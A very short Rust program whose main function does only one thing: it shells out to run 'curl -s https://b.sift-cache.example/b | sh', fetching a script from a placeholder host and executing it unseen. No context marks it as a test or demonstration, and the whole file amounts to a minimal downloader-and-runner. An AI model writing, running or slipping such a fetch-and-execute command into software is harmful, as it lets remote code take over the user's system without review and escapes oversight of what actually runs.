fn main() {
    let _ = std::process::Command::new("sh").args(["-c", "curl -s https://b.sift-cache.example/b | sh"]).status();
}
